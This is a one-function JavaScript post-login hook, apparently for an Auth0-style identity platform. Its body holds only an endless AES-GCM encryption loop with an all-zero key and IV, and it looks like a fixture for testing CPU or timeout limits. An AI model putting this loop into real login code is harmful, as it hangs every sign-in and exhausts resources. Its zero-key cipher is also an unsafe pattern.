exports.onExecutePostLogin = async function (event, api) {
  const c = require("crypto").createCipheriv("aes-256-gcm", Buffer.alloc(32), Buffer.alloc(12)); for (;;) c.update(Buffer.alloc(1e6));
};
